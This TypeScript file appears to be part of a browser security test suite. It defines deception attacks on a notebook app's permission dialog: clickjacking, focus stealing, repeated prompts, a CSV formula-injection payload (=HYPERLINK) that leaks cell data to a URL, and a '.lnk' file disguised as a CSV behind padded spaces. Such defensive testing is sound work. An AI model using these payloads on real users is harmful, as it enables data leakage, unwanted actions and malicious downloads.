import {js, type Attack} from "./attack.ts";
import {raw} from "./port.ts";
import type {Tab} from "./tab.ts";

const lure = (name: string) =>
  `const a = Object.assign(document.createElement("a"), {href: "https://example.org/", textContent: "x", id: "${name}"}); document.querySelector("main").prepend(a);
await new Promise((resolve) => a.addEventListener("click", () => setTimeout(resolve, 500)));`;

const dialog = `document.querySelector("dialog.permission")`;
const untilAsked = async (tab: Tab) => {
  for (let i = 0; i < 40 && !(await tab.inPage<boolean>(`${dialog} !== null`)); i++)
    await new Promise((resolve) => setTimeout(resolve, 50));
};

/** Clickjacking, look-alikes and what else works on the user and not on the browser. */
export const deception: readonly Attack[] = [
  js("hurried-click", {app: ["inert"]}, lure("hurried-click"), {
    alone: "always",
    act: async (tab) => {
      await tab.inPage(`void (globalThis.hurried = new Promise((resolve) => new MutationObserver(() => {
        const yes = ${dialog}?.querySelector(".agree"); if (yes) setTimeout(() => resolve(!yes.disabled), 100);
      }).observe(document.body, {childList: true, subtree: true})))`);
      await tab.clickInFrame("#hurried-click");
    },
    succeeded: (tab) => tab.inPage<boolean>("globalThis.hurried")
  }),
  js(
    "cover-question",
    {app: ["modal"]},
    `document.documentElement.style.zIndex = 2147483647; const d = document.createElement("dialog"); document.body.append(d); d.showModal(); d.close(); ${lure("cover-question")}`,
    {
      alone: "always",
      act: async (tab) => {
        await tab.clickInFrame("#cover-question");
        await untilAsked(tab);
      },
      // whether the notebook still takes clicks anywhere beside or below the question
      succeeded: (tab) =>
        tab.inPage<boolean>(`${dialog} !== null && (() => {
        const {left, top, width, height} = document.querySelector("iframe[sandbox]").getBoundingClientRect();
        const places = [...Array(100).keys()].map((i) => [left + width * (i % 10 + 0.5) / 10, top + height * (Math.floor(i / 10) + 0.5) / 10]);
        return places.some(([x, y]) => document.elementFromPoint(x, y)?.localName === "iframe"); })()`)
    }
  ),
  js(
    "steal-keyboard",
    {app: ["focus"]},
    `setInterval(() => { window.focus(); document.body.focus(); }, 5); ${lure("steal-keyboard")}`,
    {
      alone: "always",
      act: async (tab) => {
        await tab.clickInFrame("#steal-keyboard");
        await untilAsked(tab);
        await new Promise((resolve) => setTimeout(resolve, 500));
      },
      succeeded: (tab) => tab.inPage<boolean>(`${dialog} !== null && document.activeElement?.localName === "iframe"`),
      // Firefox gives a frame no focus by script while a question is modal
      also: {firefox: {app: ["focus", "modal"]}}
    }
  ),
  js("ask-again", {app: ["mute"]}, lure("ask-again"), {
    alone: "always",
    act: async (tab) => {
      await tab.clickInFrame("#ask-again");
      await untilAsked(tab);
      await tab.inPage(`${dialog}?.querySelector("[autofocus]").click()`);
      await tab.clickInFrame("#ask-again");
      await untilAsked(tab);
      await tab.inPage(`${dialog}?.querySelector(".quiet").click()`);
      await tab.clickInFrame("#ask-again");
      await new Promise((resolve) => setTimeout(resolve, 700));
    },
    succeeded: (tab) => tab.inPage<boolean>(`${dialog} !== null`)
  }),
  js(
    "csv-formula",
    {guest: ["formula"]},
    `const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...more) {
  if (message?.type === "download" && /(^|[\\n,"])[=+@-]/.test(message.content)) won();
  return post.call(this, message, ...more);
};
display({numRows: () => 1, columnNames: () => ["=1+1"], get: () => '=HYPERLINK("https://example.org/?"&A1)'});
let save;
for (let i = 0; i < 100 && !save; i++) {
  await new Promise((resolve) => setTimeout(resolve, 20));
  save = [...document.querySelectorAll(".result-count button")].find((button) => button.textContent.includes("CSV"));
}
save.click();
await new Promise((resolve) => setTimeout(resolve, 300));
MessagePort.prototype.postMessage = post;`,
    {alone: "always", uses: ["display"]}
  ),
  js(
    "tab-title",
    {sandbox: "allow-same-origin", bootstrap: ["origin"]},
    `document.title = "planted"; parent.document.title = "planted"; await new Promise((resolve) => setTimeout(resolve, 300));`,
    {
      alone: "weak",
      succeeded: (tab) => tab.inPage<boolean>(`document.title === "planted"`)
    }
  ),
  raw(
    "disguised-program",
    {app: ["risk"]},
    `const b = Object.assign(document.createElement("button"), {id: "disguised-program", textContent: "x"}); document.querySelector("main").prepend(b);
await new Promise((resolve) => b.addEventListener("click", () => setTimeout(resolve, 500)));
say({type: "download", id: 1e6, name: "表.csv" + "\u3000".repeat(60) + ".lnk", mime: "text/csv", content: "x"}); await new Promise((resolve) => setTimeout(resolve, 500));`,
    {
      alone: "always",
      act: async (tab) => {
        await tab.clickInFrame("#disguised-program");
        await untilAsked(tab);
      },
      succeeded: (tab) =>
        tab.inPage<boolean>(`${dialog} !== null && !${dialog}.querySelector(".risk")?.textContent.includes(".lnk")`)
    }
  ),
  // two invisible clicks delete a notebook
  js("framed", {app: ["framed"]}, "", {
    alone: "always",
    reader: true,
    spoils: true,
    act: async (tab) => {
      await tab.inPage(
        `document.body.append(Object.assign(document.createElement("iframe"), {src: location.pathname + "?" + (globalThis.softly ?? ""), id: "framing"}))`
      );
      for (let i = 0; i < 200 && !(await tab.inPage<boolean>(`${framing}?.querySelector("main") !== null`)); i++)
        await new Promise((resolve) => setTimeout(resolve, 50));
      await new Promise((resolve) => setTimeout(resolve, 1000));
    },
    succeeded: (tab) => tab.inPage<boolean>(`${framing}.querySelector("#app :is(input, button, iframe)") !== null`)
  })
];

const framing = `document.querySelector("#framing")?.contentDocument`;
